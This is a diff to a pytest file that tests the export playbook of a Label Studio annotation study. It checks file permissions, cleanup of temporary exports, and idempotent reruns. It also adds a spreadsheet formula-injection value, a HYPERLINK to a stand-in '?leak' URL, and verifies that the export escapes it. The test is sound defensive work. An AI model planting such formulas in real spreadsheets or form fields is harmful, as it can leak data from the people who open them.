@@ -19,6 +19,8 @@ sys.path.insert(0, str(REPO / "module_utils"))
 EXAMPLE = REPO / "files/study"
 ANNOTATORS = [f"annotator{i}" for i in range(1, 7)]
 DATE = "20261127"
+# A text answer a spreadsheet would run as a formula (issue 13, item 5).
+FORMULA = '=HYPERLINK("http://example.org/?leak","wrong laterality")'
 
 
 @pytest.fixture(scope="module")
@@ -110,7 +112,7 @@ def annotated(study):
         {"from_name": "candidate2-errors", "to_name": "candidate2", "type": "choices",
          "value": {"choices": ["3 incorrect location/position", "5 other"]}},
         {"from_name": "errors-candidate2-other", "to_name": "candidate2", "type": "textarea",
-         "value": {"text": ["wrong laterality"]}},
+         "value": {"text": [FORMULA]}},
         {"from_name": "duration-minutes", "to_name": "reference0", "type": "textarea", "value": {"text": ["6"]}}]})
     skipped = post(t1[1], {"completed_by": users["annotator1"], "result": [], "was_cancelled": True})
     a2 = post(t2[0], {"completed_by": users["annotator2"], "result": [
@@ -133,9 +135,23 @@ def test_status_counts_match_the_annotations(study, annotated):
     assert f"batch0: {len(shared)} report(s) with >= 2 finished annotations" in run.output
 
 
+def private_files(directory: Path) -> dict[str, str]:
+    return {str(p.relative_to(directory)): oct(p.stat().st_mode & 0o777) for p in directory.rglob("*") if p.is_file()}
+
+
 def test_export_brings_everything_home(study, annotated):
-    first = study.playbook("export.yml").assert_ok()
+    # The usual umask, not a restrictive one: every file must be 0600 by itself (issue 13, item 8).
+    old_umask = os.umask(0o022)
+    try:
+        first = study.playbook("export.yml").assert_ok()
+    finally:
+        os.umask(old_umask)
     out = study.work / "exports"
+    # Temporary full exports are gone from the node and the controller; Label Studio's own copies too.
+    assert not (study.state_dir / "exports").exists()
+    assert not [p for p in (out / ".incoming").rglob("*") if p.is_file()]
+    assert not list((study.data_dir / "export").glob("project-*"))
+    assert set(private_files(out).values()) == {"0o600"}, private_files(out)
     # Per annotator: exactly what Label Studio's API returns for the project.
     for name in ANNOTATORS:
         pid = projects(study)[f"RRS: {name}"]
@@ -158,7 +174,7 @@ def test_export_brings_everything_home(study, annotated):
          str(t1[0]["id"]), str(a1["id"])),
         (sid1, "annotator1", "annotator1@example.org", "duration-minutes", "text", "6", "", "", "",
          str(t1[0]["id"]), str(a1["id"])),
-        (sid1, "annotator1", "annotator1@example.org", "errors-candidate2-other", "text", "wrong laterality",
+        (sid1, "annotator1", "annotator1@example.org", "errors-candidate2-other", "text", "'" + FORMULA,
          "", "", "", str(t1[0]["id"]), str(a1["id"])),
         (str(t1[1]["data"]["study_id"]), "annotator1", "annotator1@example.org", "", "skipped", "", "", "", "",
          str(t1[1]["id"]), str(annotated["skipped"]["id"])),
@@ -172,9 +188,14 @@ def test_export_brings_everything_home(study, annotated):
     mine = [u for u in unannotated if u["annotator"] == "annotator1"]
     assert len(mine) == len(t1) - 1  # all but the annotated one; the skipped one is "skipped only"
     assert {u["status"] for u in mine if u["study_id"] == str(t1[1]["data"]["study_id"])} == {"skipped only"}
-    assert (out / f"{DATE}-annotations.xlsx").exists()
+    sheet = openpyxl.load_workbook(out / f"{DATE}-annotations.xlsx")["annotations"]
+    assert FORMULA in [cell.value for row in sheet.iter_rows(min_row=2) for cell in row]  # exact text
     assert first.changed > 0
+    before = {p.name: p.stat().st_mtime_ns for p in out.iterdir()}
     study.playbook("export.yml").assert_unchanged()
+    study.playbook("export.yml", check=True, diff=True).assert_unchanged()
+    assert {p.name: p.stat().st_mtime_ns for p in out.iterdir()} == before
+    assert not (study.state_dir / "exports").exists()
 
 
 def test_stopped_server_fails_and_keeps_old_files(study, annotated):
